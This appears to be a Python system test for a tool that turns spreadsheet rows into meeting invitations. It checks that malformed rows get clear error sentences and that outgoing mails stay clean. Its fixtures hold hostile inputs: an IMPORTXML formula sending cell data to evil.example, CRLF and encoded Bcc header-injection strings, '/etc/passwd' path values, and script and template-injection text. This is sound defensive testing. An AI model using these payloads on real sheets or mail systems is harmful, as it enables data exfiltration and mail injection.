"""Bad rows among good ones, end to end: each gets one clear sentence, the others go on (P7, P8)."""

from __future__ import annotations

from collections import Counter
from datetime import datetime, timedelta
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path
from zoneinfo import ZoneInfo

from tests.fakes.sheets.cells import CellError, Formula
from tests.system.town import Town, only_ours_was_written, town

ZONE = ZoneInfo("Europe/Bratislava")
NOW = datetime(2027, 3, 1, 12, 0, tzinfo=ZONE)
IMPORT = '=IMPORTXML("http://evil.example/?" & A2, "//a")'
SPLIT = "Eve\r\nBcc: victim@evil.example\r\n\r\nfree text"
ENCODED = "=?utf-8?q?x=0ABcc=3A_victim@evil.example?="
LONG = "so long " * 1250
GOOD = ("anna@example.org", "ben@example.org", "cyril@example.org")
HEADERS = {"from", "to", "subject", "date", "message-id", "mime-version", "content-type", "auto-submitted", "reply-to",
           "x-commonground-kind", "x-commonground-key", "list-unsubscribe", "content-language",
           "x-auto-response-suppress", "sender"}  # fmt: skip

CONTACTS: tuple[tuple[dict[str, object], str | None], ...] = (
    ({"Name": "No Address"},
     "Email is empty. Type an address, or choose Phone only under How to reach them."),
    ({"Name": "Two Addresses", "Email": "two@example.org, other@example.org"},
     "Email: one address per row, please. Keep two@example.org, and give the other person a row."),
    ({"Name": "Half Address", "Email": "half@example"},
     'Email: "half@example" is not a whole address. Type it like anna@example.org.'),
    ({"Name": "Broken Formula", "Email": CellError("REF")},
     "Email shows #REF!. Type the value again, or mend the formula."),
    ({"Name": "Smuggler", "Email": "smuggler@example.org\r\nBcc: victim@evil.example"},
     "Email: one address per row, please. Keep smuggler@example.org, and give the other person a row."),
    ({"Name": "Odd Choice", "Email": "odd@example.org", "How to reach them": "maybe"},
     'How to reach them: "maybe" is not on the list. Choose Few e-mails, E-mail is fine, "E-mail again, they asked" or '
     "Ask first."),
    ({"Name": SPLIT, "Email": "eve@example.org"}, None),
    ({"Name": ENCODED, "Email": "encoded@example.org"}, None),
    ({"Name": IMPORT, "Email": "import@example.org"}, None),
    ({"Name": "Greeter", "Email": "greeter@example.org", "Greeting ✉": "/etc/passwd", "Notes": "/etc/passwd"}, None),
)
"""Cells of a contact, and the sentence its row gets; ``None``: the cells are taken as text."""

WRONG: tuple[tuple[dict[str, object], str], ...] = (
    ({"Contact": "Nobody Known"},
     'Contact: "Nobody Known" is not in Contacts. Add them there, or choose a name from the list.'),
    ({"Date": "31.2.2027"},
     'Date: "31.2.2027" is not in the calendar: February 2027 has 28 days. Type 28 Feb 2027, or the day you mean.'),
    ({"Date": "3/4"}, 'Date: "3/4" could be 3 April or 4 March. Type 3 Apr 2027 or 4 Mar 2027.'),
    ({"Time": "5"}, 'Time: "5" could be 5:00 or 17:00. Type 17:00.'),
    ({"Date": CellError("REF")}, "Date shows #REF!. Type the value again, or mend the formula."),
    ({"Place ✉": Formula("=VLOOKUP(1,2,3)")}, "Place shows #N/A. Type the value again, or mend the formula."),
    ({"Stage": "Perhaps"}, 'Stage: "Perhaps" is not on the list. Choose Draft, Invite, Agreed or Confirmed.'),
    ({"Minutes": "an hour or so"},
     'Minutes: "an hour or so" does not fit. Type a whole number from 5 to 600, like 45.'),
    ({"Time zone": "Mars/Phobos"},
     'Time zone: "Mars/Phobos" is not the name of a time zone. Type Europe/Bratislava, or the zone of another city.'),
    ({"Organizer": "Nobody Known"},
     'Organizer: "Nobody Known" is not in Team. Add them there, or choose a name from the list.'),
    ({"Hold mail": "perhaps"},
     'Hold mail: "perhaps" is neither a tick nor empty. Delete the word, then tick the box or not.'),
    ({"Place ✉": LONG}, "Place is 9,999 characters long. Shorten it to 2,000: it goes into mails."),
    ({"Purpose ✉": LONG}, "Purpose is 9,999 characters long. Shorten it to 2,000: it goes into mails."),
    ({"Date": "", "Time": "17:30"}, "Date is empty. Type the day you agreed on, like 11 Mar 2027."),
)
"""Cells of a meeting that differ from a good one, and the sentence its row begins with."""

TAKEN: tuple[dict[str, object], ...] = (
    {"Purpose ✉": "/etc/passwd"},
    {"Place ✉": "/etc/passwd", "Team notes": LONG, "Our ask": "/etc/passwd"},
    {"Place ✉": IMPORT, "Purpose ✉": IMPORT, "Team notes": Formula("=1/0")},
    {"Time": "17.30", "Place ✉": "{{ 7*7 }} <script>alert(1)</script> **bold** [x](http://evil.example)"},
    {"Place ✉": SPLIT, "Purpose ✉": SPLIT},
    {"Place ✉": ENCODED, "Purpose ✉": ENCODED},
)
"""Cells of a meeting that are odd and are taken as they stand."""


def put(made: Town, tab: str, row: int, cells: dict[str, object]) -> None:
    """Set cells as they are, so that the sheet reads nothing into them."""
    for header, value in cells.items():
        index = made.hand.column(tab, header)
        made.hand.fill(tab, f"A{row}" if index == 0 else f"{_letters(index)}{row}", [[value]])


def _letters(index: int) -> str:
    return (chr(64 + index // 26) if index >= 26 else "") + chr(65 + index % 26)


def contact(name: object, email: str) -> dict[str, object]:
    return {"Name": name, "Email": email, "How to reach them": "E-mail is fine"}


def meeting(name: object, days: int) -> dict[str, object]:
    day = NOW.date() + timedelta(days=days)
    return {"Contact": name, "Stage": "Agreed", "Date": f"{day:%d.%m.%Y}", "Time": "17:30", "Place ✉": "Café Dobre",
            "Organizer": "Jana"}  # fmt: skip


def fill(made: Town) -> tuple[int, int]:
    """Type all rows, bad ones between good ones; return the first bad contact's and the first bad meeting's row."""
    made.type_row("Team", 2, Name="Jana", Email="jana@example.org", Phone="0903 123 456")
    people = [contact("Anna Good", GOOD[0]), contact("Ben Good", GOOD[1])]
    people += [contact("", "") | cells for cells, _ in CONTACTS] + [contact("Cyril Good", GOOD[2])]
    for row, cells in enumerate(people, 2):
        put(made, "Contacts", row, cells)
    meetings = [meeting("Anna Good", 10)]
    meetings += [meeting("Ben Good", 30 + at) | cells for at, (cells, _) in enumerate(WRONG)]
    meetings += [meeting("Ben Good", 12)]
    meetings += [meeting(cells["Name"], 40 + at) for at, (cells, _) in enumerate(CONTACTS)]
    meetings += [meeting("Cyril Good", 60 + at) | cells for at, cells in enumerate(TAKEN)]
    for row, cells in enumerate(meetings, 2):
        put(made, "Meetings", row, cells)
    return 4, 3


def settle(made: Town) -> None:
    """Let the rows rest and their mails go."""
    for minutes in (0, 1, 7, 14, 15):
        made.clock.to(NOW + timedelta(minutes=minutes))
        made.cycle(times=2)


def says(made: Town, tab: str, row: int) -> str:
    return str(made.hand.under(tab, "What happens next", row) or "")


def test_each_bad_row_gets_its_sentence_and_the_good_ones_go_on(tmp_path: Path) -> None:
    with town(tmp_path, now=NOW) as made:
        made.cycle()
        made.book.written_cells.clear()
        first_contact, first_meeting = fill(made)
        settle(made)
        wrong: list[str] = []
        for at, (_, sentence) in enumerate(CONTACTS):
            said = says(made, "Contacts", first_contact + at)
            if not (said == sentence if sentence else said.startswith("Meets Jana ")):
                wrong.append(f"contact {at}: {said}")
        for at, (_, sentence) in enumerate(WRONG):
            said = says(made, "Meetings", first_meeting + at)
            if not said.startswith(sentence):
                wrong.append(f"meeting {at}: {said}")
        assert not wrong, "\n".join(wrong)
        judge(made)
        only_ours_was_written(made)


def judge(made: Town) -> None:
    """Judge what left and what was written."""
    counted = Counter(made.mail.kept.recipients)
    taken = sum(sentence is None for _, sentence in CONTACTS)
    assert counted == {
        GOOD[0]: 1, GOOD[1]: 1, GOOD[2]: len(TAKEN), "eve@example.org": 1, "encoded@example.org": 1,
        "import@example.org": 1, "greeter@example.org": 1,
    }, counted  # fmt: skip
    assert len(made.mail.kept.mails) == 2 + len(TAKEN) + taken
    for raw, to in zip(made.mail.kept.mails, made.mail.kept.recipients, strict=True):
        is_clean(raw, to)
    for tab in ("Contacts", "Meetings", "Promises", "Team", "Settings", "Start here"):
        for write in made.book.written_cells:
            if write.tab == tab and write.header not in ("", "Value"):
                assert write.new is None or isinstance(write.new, str), write
    for tab in ("Contacts", "Meetings"):
        grid = made.hand.tab(tab)
        for header in ("What happens next", "Where it stands", "Confirmation", "ID"):
            if header in made.hand.headers(tab):
                column = made.hand.column(tab, header)
                cells = [grid.get(row, column) for row in range(1, 60)]
                assert not [cell for cell in cells if isinstance(cell, Formula)]


def is_clean(raw: bytes, to: str) -> None:
    """Assert that a mail has the headers of a mail of ours, one recipient, and no attachment but the invite."""
    head, _, _ = raw.replace(b"\r\n", b"\n").partition(b"\n\n")
    names = [line.split(b":")[0].decode().lower() for line in head.split(b"\n") if line and line[:1] not in b" \t"]
    assert set(names) <= HEADERS, set(names) - HEADERS
    assert len(set(names)) == len(names), names
    mail = message_from_bytes(raw, policy=policy.default)
    assert isinstance(mail, EmailMessage)
    assert [address.addr_spec for address in mail["To"].addresses] == [to]
    assert mail["Bcc"] is None
    assert mail["Cc"] is None
    assert all(value.isprintable() for value in mail.values() if "\n" not in str(value))
    assert [part.get_filename() for part in mail.walk() if part.get_filename()] == ["invite.ics"]
    types = [part.get_content_type() for part in mail.walk() if not part.is_multipart()]
    assert sorted(types) == ["application/ics", "text/calendar", "text/html", "text/plain"]
    page = str(mail.get_body(("html",)).get_content())  # type: ignore[union-attr]
    assert "<script" not in page
    assert 'href="http://evil' not in page
    texts = [str(part.get_content()) for part in mail.walk() if part.get_content_maintype() == "text"]
    assert not [text for text in texts if "root:x:" in text or " 49 " in text]
    for line in _calendar(mail).split("\n"):
        assert not line.startswith(("Bcc", "free text", "ATTENDEE;CN=victim"))


def _calendar(mail: EmailMessage) -> str:
    part = next(p for p in mail.walk() if p.get_content_type() == "text/calendar")
    return str(part.get_content()).replace("\r\n ", "").replace("\r\n", "\n")
